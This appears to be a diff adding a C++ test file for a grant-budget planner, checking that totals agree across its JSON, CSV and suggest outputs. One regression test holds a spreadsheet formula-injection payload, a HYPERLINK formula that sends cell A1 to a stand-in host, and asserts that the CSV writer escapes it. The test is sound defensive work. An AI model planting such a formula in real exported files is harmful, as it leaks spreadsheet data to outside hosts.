@@ -1,0 +1,154 @@
+// SPDX-License-Identifier: GPL-3.0-or-later
+// Every view of a plan gives the same totals and every table adds up (issue 11):
+// random plans with lines inside and outside the period, every source, through
+// check -O json, project -O json, the CSV export, suggest and diff.
+#include <nlohmann/json.hpp>
+
+#include <random>
+#include <sstream>
+
+#include "cofund/planner/check_report.h"
+#include "cofund/planner/csv.h"
+#include "cofund/planner/diff.h"
+#include "cofund/planner/json_out.h"
+#include "cofund/planner/project_report.h"
+#include "cofund/planner/suggest.h"
+#include "cofund/render/export.h"
+#include "cofund/summary.h"
+#include "test_support.h"
+
+using namespace cofund;
+using namespace cofund::planner;
+using cofund::test::example;
+using cofund::test::line_sum;
+using cofund::test::line_totals;
+
+namespace {
+
+Money json_money(const nlohmann::ordered_json& v) { return Money::parse_yuan(v.get<std::string>()).value(); }
+
+Plan random_plan(unsigned seed) {
+    std::mt19937 rng(seed);
+    static const char* names[] = {"annex3-fruit-veg-processing", "annex7-ecommerce-platform",
+                                  "general2-tech-park-incubator", "annex1-agri-center"};
+    Plan plan = example(names[seed % 4]);
+    const int n = static_cast<int>(rng() % 12);
+    for (int i = 0; i < n; ++i) {
+        BudgetLine line;
+        // Years from four before the period to four after it.
+        line.year = plan.project.start_year - 4 + static_cast<int>(rng() % (plan.project.years() + 8));
+        line.category = static_cast<Category>(rng() % kCategoryCount);
+        line.source = kSources[rng() % kSourceCount];
+        line.amount = Money::from_fen(static_cast<Int>(rng() % 100'000'000));
+        plan.budget.push_back(line);
+    }
+    return plan;
+}
+
+}  // namespace
+
+TEST_CASE("every view of a random plan gives the same totals, and its years and outside the period add up to them",
+          "[views][properties]") {
+    const unsigned seed = GENERATE(range(1u, 121u));
+    CAPTURE(seed);
+    const Plan plan = random_plan(seed);
+    const Totals want = line_totals(plan);
+    const BudgetSummary sums(plan);
+    CHECK(sums.all().totals().total() == want.total());
+
+    // check -O json: by_year + outside_period = totals, field by field.
+    const auto j = check_json(check("x", plan, builtin_catalog()), Lang::en, false);
+    const auto& t = j["totals"];
+    for (const char* field : {"fiscal", "other_fiscal", "self_raised", "total"}) {
+        Money years = json_money(t["outside_period"][field]);
+        for (const auto& [year, y] : t["by_year"].items()) years += json_money(y[field]);
+        CHECK(years == json_money(t[field]));
+    }
+    CHECK(json_money(t["total"]) == want.total());
+    CHECK(json_money(t["fiscal"]) == want.fiscal);
+    CHECK(json_money(t["self_raised"]) == want.self_raised);
+
+    // The CSV export: its amounts add up to the same total, line for line.
+    const std::string csv = render::export_csv(plan, builtin_catalog(), Lang::en);
+    REQUIRE(csv.rfind("\xEF\xBB\xBF", 0) == 0);
+    std::istringstream rows(csv.substr(3));
+    std::string row;
+    std::getline(rows, row);  // the header
+    Money csv_total;
+    int csv_rows = 0;
+    while (std::getline(rows, row)) {
+        REQUIRE(!row.empty());
+        CHECK(row.back() == '\r');
+        // The amount is the 7th cell (RFC 4180: a quoted cell may hold commas).
+        std::vector<std::string> cells(1);
+        bool quoted = false;
+        for (char c : row.substr(0, row.size() - 1)) {
+            if (c == '"') quoted = !quoted;
+            else if (c == ',' && !quoted) cells.emplace_back();
+            else cells.back() += c;
+        }
+        REQUIRE(cells.size() == 8);
+        csv_total += Money::parse_yuan(cells[6]).value();
+        ++csv_rows;
+    }
+    CHECK(csv_rows == static_cast<int>(plan.budget.size()));
+    CHECK(csv_total == want.total());
+
+    // project -O json: the money part tells the same totals and years.
+    auto report = make_project_report("x", plan, builtin_catalog(), std::nullopt);
+    if (report) {
+        const auto p = project_json(*report, Lang::en);
+        const auto& m = p["money"];
+        CHECK(json_money(m["totals"]["total"]) == want.total());
+        Money years = json_money(m["outside_period"]["total"]);
+        for (const auto& [year, y] : m["by_year"].items()) years += json_money(y["total"]);
+        CHECK(years == want.total());
+    }
+
+    // suggest moves every line outside the period in; nothing is outside afterwards.
+    const SuggestResult r = suggest(plan, builtin_catalog());
+    CHECK(!BudgetSummary(r.corrected).has_outside());
+    for (const Finding& f : r.after) CHECK(f.rule != "budget.year");
+}
+
+TEST_CASE("money outside the period is shown in its own row of the check's text and moved by suggest, not added",
+          "[views][regression]") {
+    // Regression: general2-four-years has a 50,000.00 line in 2022; check printed
+    // years adding to 790,000.00 under a total of 840,000.00, and suggest proposed
+    // new money instead of moving the line.
+    Plan plan = example("failing/general2-four-years");
+    const std::string text = check_text(check("x", plan, builtin_catalog()), builtin_catalog(), Lang::en, false);
+    CHECK(text.find("outside the period (2022)") != std::string::npos);
+    const std::string zh = check_text(check("x", plan, builtin_catalog()), builtin_catalog(), Lang::zh, false);
+    CHECK(zh.find("期外（2022）") != std::string::npos);
+    const SuggestResult r = suggest(plan, builtin_catalog());
+    REQUIRE(!r.suggestions.empty());
+    CHECK(r.suggestions[0].rule == "budget.year");
+    CHECK(r.suggestions[0].changes[0].kind == MoneyChange::Kind::move);
+    CHECK(r.suggestions[0].changes[0].from_year == 2022);
+    CHECK(line_totals(r.corrected).total() == line_totals(plan).total());
+}
+
+TEST_CASE("every CSV Cofund writes guards formulas, has a BOM and CRLF line ends", "[views][csv][regression]") {
+    // Regression: portfolio -O csv wrote a title "=HYPERLINK(…)" raw, a live formula in LibreOffice.
+    CsvWriter csv;
+    csv.text("=HYPERLINK(\"http://x/?\"&A1,\"click\")").text("=1+2").text("+1").text("-1").text("@a").text("\tx");
+    csv.number("-1500000.00").end_row();
+    const std::string out = csv.str();
+    CHECK(out == "\xEF\xBB\xBF\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",\"'=1+2\",\"'+1\",\"'-1\",\"'@a\","
+                 "\"'\tx\",-1500000.00\r\n");
+}
+
+TEST_CASE("a file name that is not UTF-8 is written to JSON with U+FFFD, never an internal error", "[views][json][regression]") {
+    // Regression: portfolio -O json and project -O json stopped with json.exception.type_error.316.
+    nlohmann::ordered_json j = nlohmann::ordered_json::object();
+    j["file"] = std::string("bad\xff.plan.json");
+    CHECK(json_text(j) == "{\"file\":\"bad\xEF\xBF\xBD.plan.json\"}");
+}
+
+TEST_CASE("the ratio is written one way: fiscal first, cut to four decimals", "[views][ratio]") {
+    CHECK(ratio_text(Money::from_yuan(1'500'000), Money::from_fen(299'999'999)) == "1 : 1.9999");
+    CHECK(ratio_text(Money::from_yuan(100), Money::from_yuan(200)) == "1 : 2");
+    CHECK(ratio_text(Money::from_yuan(100), Money::from_yuan(250)) == "1 : 2.5");
+    CHECK(ratio_text(Money(), Money::from_yuan(1)) == "—");
+}
